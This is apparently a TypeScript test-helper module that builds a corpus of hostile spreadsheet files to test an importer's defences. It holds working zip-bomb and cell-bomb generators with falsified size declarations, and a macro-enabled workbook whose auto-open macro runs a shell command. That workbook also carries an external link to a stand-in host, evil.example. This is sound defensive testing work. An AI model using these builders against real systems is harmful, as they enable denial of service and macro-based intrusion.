/**
 * Low-level builders for the hostile corpus: a real deflate zip bomb (built without ever holding the
 * inflated data), a password-protected workbook as Excel stores one (an OLE/CFB container with
 * EncryptionInfo and EncryptedPackage streams), a macro-enabled workbook with an external link, and
 * a way to rewrite parts of a workbook written by tests/helpers/ooxml.ts.
 */
import { constants, crc32 as zlibCrc32, deflateRawSync } from 'node:zlib';
import * as XLSX from 'xlsx';
import { writeOds } from '../helpers/ods';
import { crc32, readZip, writeXlsx, writeZip, type SheetSpec, type ZipEntry } from '../helpers/ooxml';
import { CFB } from '../../src-main/import/cfb-format';

/** Rewrites, drops (patch returns null) or adds parts of a zip package. */
export function patchZip(bytes: Buffer, patches: Record<string, (text: string) => string | null>, add: ZipEntry[] = []): Buffer {
  const entries: ZipEntry[] = [];
  for (const e of readZip(bytes)) {
    const patch = patches[e.name];
    if (!patch) {
      entries.push({ name: e.name, data: e.data });
      continue;
    }
    const text = patch(e.data.toString('utf8'));
    if (text !== null) entries.push({ name: e.name, data: Buffer.from(text, 'utf8') });
  }
  return writeZip([...entries, ...add]);
}

interface RawEntry {
  name: string;
  /** Deflated bytes, already compressed. */
  deflated: Buffer;
  crc: number;
  /** The size the central directory declares (a bomb lies here). */
  declaredSize: number;
}

/** A zip whose entries are given already deflated (method 8), with whatever sizes they declare. */
function writeRawZip(entries: readonly RawEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const header = (signature: number, size: number) => {
      const b = Buffer.alloc(size);
      b.writeUInt32LE(signature, 0);
      return b;
    };
    const local = header(0x04034b50, 30);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(33, 12); // 1980-01-01
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.deflated.length, 18);
    local.writeUInt32LE(e.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    const c = header(0x02014b50, 46);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt16LE(33, 14);
    c.writeUInt32LE(e.crc, 16);
    c.writeUInt32LE(e.deflated.length, 20);
    c.writeUInt32LE(e.declaredSize, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(offset, 42);
    parts.push(local, name, e.deflated);
    central.push(c, name);
    offset += 30 + name.length + e.deflated.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, dir, end]);
}

function rawEntry(name: string, text: string): RawEntry {
  const data = Buffer.from(text, 'utf8');
  return { name, deflated: deflateRawSync(data), crc: crc32(data), declaredSize: data.length };
}

/**
 * A deflate stream that inflates to `inflatedMb` MB of spaces: one MB of spaces deflated with a sync
 * flush (a non-final block ending on a byte boundary, back-references only inside itself) repeated,
 * then an empty final block. About 1 KB per inflated MB.
 */
export function deflateBomb(inflatedMb: number): Buffer {
  const chunk = deflateRawSync(Buffer.alloc(1024 * 1024, 0x20), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const finalEmptyBlock = Buffer.from([0x03, 0x00]);
  return Buffer.concat([...Array.from({ length: inflatedMb }, () => chunk), finalEmptyBlock]);
}

/**
 * A well-formed .xlsx whose worksheet inflates to `inflatedMb` MB while its central directory
 * declares a harmless 2 KB, so only counting the inflated bytes as they stream can catch it; or,
 * `truthful`, declares its real size (which SheetJS then trusts and inflates).
 */
export function zipBombXlsx(inflatedMb: number, options: { truthful?: boolean } = {}): Buffer {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return writeRawZip([
    rawEntry('[Content_Types].xml', `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`),
    rawEntry('_rels/.rels', `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    rawEntry('xl/workbook.xml', `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${rel}"><sheets><sheet name="Activiteiten" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    rawEntry('xl/_rels/workbook.xml.rels', `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
    { name: 'xl/worksheets/sheet1.xml', deflated: deflateBomb(inflatedMb), crc: 0, declaredSize: options.truthful ? inflatedMb * 1024 * 1024 : 2048 },
  ]);
}

/**
 * A worksheet of `rows` identical rows of `columns` numeric cells, deflated segment by segment (each
 * segment ends on a sync flush and refers only to itself, so segments can be repeated): 16 million
 * cells in half a megabyte, built without ever holding the 240 MB of XML.
 */
export function cellBombXlsx(rows: number, columns: number, options: { sheetPath?: string } = {}): Buffer {
  const sync = (text: string) => deflateRawSync(Buffer.from(text, 'utf8'), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const head = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
  const block = `<row>${'<c><v>1</v></c>'.repeat(columns)}</row>`.repeat(100);
  const tail = '</sheetData></worksheet>';
  const deflated = Buffer.concat([sync(head), ...Array.from({ length: Math.ceil(rows / 100) }, () => sync(block)), deflateRawSync(Buffer.from(tail, 'utf8'))]);
  const size = head.length + block.length * Math.ceil(rows / 100) + tail.length;
  // The CRC of the whole text, segment by segment, without ever holding it.
  let crc = zlibCrc32(head);
  for (let i = 0; i < Math.ceil(rows / 100); i++) crc = zlibCrc32(block, crc);
  crc = zlibCrc32(tail, crc);
  // Optionally at another path (relationship and content type following it), where only a guard
  // that recognises a sheet by its content, not its name, counts its cells.
  const path = options.sheetPath ?? 'xl/worksheets/sheet1.xml';
  const moved = (text: string) => text.replace('worksheets/sheet1.xml', path.replace(/^xl\//, ''));
  const entries = readZip(writeXlsx([{ name: 'Activiteiten', rows: [['x']] }])).map((e) => rawEntry(e.name, moved(e.data.toString('utf8'))));
  return writeRawZip(entries.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, name: path, deflated, crc, declaredSize: size } : e)));
}

/**
 * An .ods whose one cell is repeated over `columns` columns and `rows` rows by LibreOffice's own
 * attributes (number-columns-repeated, number-rows-repeated): a few hundred bytes.
 */
export function repeatedOds(columns: number, rows: number): Buffer {
  const entries = readZip(writeOds([{ name: 'Blad1', rows: [['x']] }])).map((e): ZipEntry => {
    if (e.name !== 'content.xml') return { name: e.name, data: e.data, store: e.method === 0 };
    const row = `<table:table-row table:number-rows-repeated="${rows}"><table:table-cell table:number-columns-repeated="${columns}" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>`;
    return { name: e.name, data: Buffer.from(e.data.toString('utf8').replace(/<table:table-row>[\s\S]*<\/table:table-row>/, row), 'utf8') };
  });
  return writeZip(entries);
}

/**
 * An Excel binary workbook (.xlsb) named .xlsx. Written with SheetJS, the only .xlsb writer at hand;
 * the importer refuses it before SheetJS reads it (its binary cells cannot be counted in advance).
 */
export function xlsbWorkbook(rows: (string | number)[][]): Buffer {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'Activiteiten');
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsb' }) as Buffer;
}

/** A workbook with `extra` tiny deflated parts besides its own (tens of thousands of zip entries). */
export function withManyParts(xlsx: Buffer, extra: number): Buffer {
  const own = readZip(xlsx).map((e) => rawEntry(e.name, e.data.toString('utf8')));
  const tiny = rawEntry('x', '<leeg/>');
  return writeRawZip([...own, ...Array.from({ length: extra }, (_, i) => ({ ...tiny, name: `customXml/deel${i}.xml` }))]);
}

interface CfbApi {
  utils: { cfb_new(): unknown; cfb_add(cfb: unknown, name: string, content: Buffer): void };
  write(cfb: unknown, options: { type: 'buffer' }): Buffer | Uint8Array;
}

/**
 * What Excel writes for "Encrypt with password": an OLE compound file (not a zip) with an
 * EncryptionInfo stream (agile encryption, version 4.4, XML descriptor) and the encrypted package.
 * Written with SheetJS' CFB container writer, so it is a structurally valid compound file.
 */
export function encryptedXlsx(): Buffer {
  const cfbApi = XLSX.CFB as CfbApi;
  const cfb = cfbApi.utils.cfb_new();
  const info = Buffer.concat([
    Buffer.from([0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00]),
    Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>', 'utf8'),
  ]);
  const pkg = Buffer.alloc(8192);
  pkg.writeBigUInt64LE(8000n, 0);
  for (let i = 8; i < pkg.length; i++) pkg[i] = (i * 131 + 7) & 0xff;
  cfbApi.utils.cfb_add(cfb, '/EncryptionInfo', info);
  cfbApi.utils.cfb_add(cfb, '/EncryptedPackage', pkg);
  return Buffer.from(cfbApi.write(cfb, { type: 'buffer' }));
}

/**
 * An Excel 97–2003 .xls with "Protect workbook with password": a Workbook stream whose BOF record is
 * followed by a FILEPASS record (RC4 encryption header), as Excel writes it.
 */
export function encryptedXls(): Buffer {
  const cfbApi = XLSX.CFB as CfbApi;
  const record = (type: number, data: Buffer) => {
    const header = Buffer.alloc(4);
    header.writeUInt16LE(type, 0);
    header.writeUInt16LE(data.length, 2);
    return Buffer.concat([header, data]);
  };
  const bof = Buffer.alloc(16);
  bof.writeUInt16LE(0x0600, 0); // BIFF8
  bof.writeUInt16LE(0x0005, 2); // workbook globals
  const filePass = Buffer.alloc(54);
  filePass.writeUInt16LE(1, 0); // RC4
  filePass.writeUInt16LE(1, 2);
  filePass.writeUInt16LE(1, 4);
  const cfb = cfbApi.utils.cfb_new();
  cfbApi.utils.cfb_add(cfb, '/Workbook', Buffer.concat([record(0x0809, bof), record(0x002f, filePass), record(0x000a, Buffer.alloc(0))]));
  return Buffer.from(cfbApi.write(cfb, { type: 'buffer' }));
}

/**
 * A LibreOffice .ods saved with a password: the manifest describes the encryption of content.xml
 * (AES-256, PBKDF2), whose bytes are stored encrypted.
 */
export function encryptedOds(sheets: readonly SheetSpec[]): Buffer {
  const encryption =
    '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" manifest:checksum="AAAA">' +
    '<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="AAAA"/>' +
    '<manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="100000" manifest:salt="AAAA"/></manifest:encryption-data>';
  const entries = readZip(writeOds(sheets)).map((e): ZipEntry => {
    if (e.name === 'META-INF/manifest.xml') {
      const xml = e.data.toString('utf8').replace(/(<manifest:file-entry manifest:full-path="content.xml"[^>]*?)\/>/, `$1>${encryption}</manifest:file-entry>`);
      return { name: e.name, data: Buffer.from(xml, 'utf8') };
    }
    if (e.name === 'content.xml') return { name: e.name, data: Buffer.from(e.data.map((_b, i) => (i * 197 + 13) & 0xff)), store: true };
    return { name: e.name, data: e.data, store: e.method === 0 };
  });
  return writeZip(entries);
}

/**
 * Turns a workbook into a macro-enabled one (.xlsm) with a VBA project (an auto-open macro's
 * container) and an external link to another workbook on a network share.
 */
export function withMacrosAndExternalLink(xlsx: Buffer): Buffer {
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const vba = Buffer.concat([CFB.signature, Buffer.from('Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nShell "calc.exe"\r\nEnd Sub\r\n', 'latin1')]);
  const externalLink = `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${rel}"><externalBook r:id="rId1"><sheetNames><sheetName val="Blad1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>van buiten</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`;
  return patchZip(
    xlsx,
    {
      '[Content_Types].xml': (t) =>
        t
          .replace('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')
          .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'),
      'xl/_rels/workbook.xml.rels': (t) =>
        t.replace(
          '</Relationships>',
          `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId91" Type="${rel}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
        ),
      'xl/workbook.xml': (t) => t.replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rId91"/></externalReferences>'),
    },
    [
      { name: 'xl/vbaProject.bin', data: vba },
      { name: 'xl/externalLinks/externalLink1.xml', data: Buffer.from(externalLink, 'utf8') },
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        data: Buffer.from(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/externalLinkPath" Target="file://///evil.example/share/bron.xlsx" TargetMode="External"/></Relationships>`, 'utf8'),
      },
    ],
  );
}
